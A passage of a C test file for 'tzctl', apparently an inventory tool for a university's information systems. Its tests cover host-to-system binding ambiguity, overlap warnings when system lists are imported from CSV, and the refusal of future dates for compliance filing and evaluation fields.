    cr_assert_null(ambiguous_evidence(), "%s", out);

    /* unbound by the ledger again (a second system of 计算机学院 claims it),
     * then settled by the operator */
    cr_assert_eq(TZCTL_RUN("system", "add", "选课系统", "--dept", "计算机学院",
                           "--ips", "192.0.2.0/25"), 0, "%s", out);
    ev = ambiguous_evidence();
    cr_assert_not_null(ev);
    cr_assert_str_eq(ev, "matches 3 systems by address or hostname, 1 of them of "
                         "other departments, and is bound to none: host lab01 "
                         "(agent 1) of 计算机学院; candidates: system 1 (教务系统, 教务处), "
                         "system 2 (实验平台, 计算机学院), system 4 (选课系统, 计算机学院)");
    free(ev);
    cr_assert_eq(TZCTL_RUN("bind", "lab01", "实验平台"), 0, "%s", out);
    cr_assert_str_eq(out, "bound host 1 (lab01) to system 2\n");
    cr_assert_null(ambiguous_evidence(), "closed by the bind");
    cr_assert_eq(TZCTL_RUN("unbind", "lab01"), 0, "%s", out);
    cr_assert_str_eq(out, "unbound host 1 (lab01): it now belongs to no system\n"
                          "its addresses or hostname match 3 systems (1, 2, 4): bound "
                          "to none (flag AMBIGUOUS_BINDING); bind it with tzctl bind 1 "
                          "SYSTEM\n");
    ev = ambiguous_evidence();
    cr_assert_not_null(ev, "open again");
    free(ev);
}

/* Rows claiming what a stored system or another row claims: imported, with
 * a warning naming both. */
Test(ledger, import_warns_of_rows_sharing_addresses)
{
    cr_assert_eq(TZCTL_RUN("system", "add", "教务系统", "--dept", "教务处",
                           "--ips", "192.0.2.0/24"), 0, "%s", out);
    char *path = tz_test_path("%s/overlap.csv", dir);
    FILE *f = fopen(path, "w");
    cr_assert_not_null(f);
    fputs("系统名称,所属单位,IP地址,域名\n"
          "图书系统,图书馆,192.0.2.250-192.0.3.5,lib.example.edu.cn\n"
          "馆藏系统,图书馆,192.0.3.5,https://LIB.example.edu.cn/opac\n"
          "实验平台,计算机学院,198.51.100.1,\n", f);
    fclose(f);
    cr_assert_eq(TZCTL_RUN("system", "import", path), 0, "%s", out);
    char *want = NULL;
    cr_assert(asprintf(&want,
        "%1$s: read as CSV, UTF-8\n"
        "imported 3 systems\n"
        "%1$s: warning: line 2: \"图书系统\" of 图书馆: IP 192.0.2.250-192.0.3.5 "
        "shares 192.0.2.250-192.0.2.255 with \"教务系统\" of 教务处 (system 1: "
        "192.0.2.0/24), across departments\n"
        "%1$s: warning: line 2: \"图书系统\" of 图书馆: IP 192.0.2.250-192.0.3.5 "
        "shares 192.0.3.5 with \"馆藏系统\" of 图书馆 (line 3: 192.0.3.5)\n"
        "%1$s: warning: line 2: \"图书系统\" of 图书馆: domain lib.example.edu.cn "
        "names the host lib.example.edu.cn, as does \"馆藏系统\" of 图书馆 (line 3: "
        "https://LIB.example.edu.cn/opac)\n", path) > 0);
    cr_assert_str_eq(out, want);
    free(want);
    cr_assert_eq(TZCTL_RUN("systems"), 0, "%s", out);
    cr_assert(strstr(out, "\n4   实验平台  计算机学院"), "imported all the same: %s", out);
    /* JSON carries them too */
    cr_assert_eq(TZCTL_RUN("system", "retire", "1"), 0, "%s", out);
    f = fopen(path, "w");
    cr_assert_not_null(f);
    fputs("系统名称,所属单位,IP地址\n选课系统,教务处,198.51.100.1/32\n", f);
    fclose(f);
    cr_assert_eq(TZCTL_RUN("--format", "json", "system", "import", path), 0, "%s", out);
    cJSON *j = parse();
    cJSON *w = cJSON_GetObjectItem(j, "warnings");
    cr_assert_eq(cJSON_GetArraySize(w), 1);
    cr_assert_str_eq(cJSON_GetArrayItem(w, 0)->valuestring,
                     "line 2: \"选课系统\" of 教务处: IP 198.51.100.1 shares "
                     "198.51.100.1 with \"实验平台\" of 计算机学院 (system 4: "
                     "198.51.100.1), across departments");
    cJSON_Delete(j);
    free(path);
}

/* A filing, an evaluation or a review happened on a day already past: a
 * date after today is refused by system add, set and import alike (one
 * validation, ledger_fields.c, which the portal shares); a launch may be
 * planned ahead. */
Test(ledger, dates_in_the_future_are_refused_where_they_cannot_be)
{
    char today[11], tomorrow[11];
    civil_format(civil_today(time(NULL)), today);
    civil_format(civil_today(time(NULL)) + 1, tomorrow);
    cr_assert_eq(TZCTL_RUN("system", "add", "排课系统", "--dept", "教务处"), 0, "%s", out);
    const char *fields[] = {"last_evaluation_at=", "grading_filed_at=", "prelaunch_date="};
    const char *labels[] = {"最近测评日期 (last_evaluation_at)",
                            "定级备案日期 (grading_filed_at)",
                            "上线前审查日期 (prelaunch_date)"};
    for (int i = 0; i < 3; i++) {
        char *a = tz_test_path("%s2030-01-01", fields[i]);
        cr_assert_eq(TZCTL_RUN("system", "set", "1", a), 1, "%s", out);
        char *want = tz_test_path("tzctl: %s: 2030-01-01 is in the future (today is "
                                  "%s): give the date it happened\n", labels[i], today);
        cr_assert_str_eq(out, want);
        free(want);
        free(a);
        a = tz_test_path("%s%s", fields[i], tomorrow);
        cr_assert_eq(TZCTL_RUN("system", "set", "1", a), 1, "%s", out);
        free(a);
        a = tz_test_path("%s%s", fields[i], today);
        cr_assert_eq(TZCTL_RUN("system", "set", "1", a), 0, "%s", out);
        free(a);
    }
    cr_assert_eq(TZCTL_RUN("system", "set", "1", "launched_at=2030-01-01"), 0, "%s", out);
    cr_assert_eq(TZCTL_RUN("system", "add", "选课系统", "--dept", "教务处",
                           "--last-evaluation-at", "2030-01-01"), 1, "%s", out);
    cr_assert(strstr(out, "2030-01-01 is in the future"), "%s", out);

    tz_test_write(dir, "future.csv", "系统名称,所属单位,最近测评日期\n"
                                     "选课系统,教务处,2030-01-01\n");
    char *p = tz_test_path("%s/future.csv", dir);
    cr_assert_eq(TZCTL_RUN("system", "import", p), 1, "%s", out);
    cr_assert(strstr(out, "line 2") && strstr(out, "2030-01-01 is in the future"),
              "%s", out);
    free(p);
    cr_assert_eq(TZCTL_RUN("system", "show", "选课系统"), 1, "nothing imported: %s", out);
}

/* The agent's example config says what the agent does with splay when an
 * interval is set (agent/schedule caps it to a tenth of the interval). */
Test(ledger, the_agent_example_says_splay_is_capped_by_interval)
{
    char *ini = tz_test_slurp(TZ_SOURCE_DIR "/deploy/tz-agent.ini.example");
    cr_assert_not_null(ini);
    cr_assert(strstr(ini, "With an interval, splay is cut to\n; a tenth of it at most"),
              "%s", ini);
    free(ini);
}
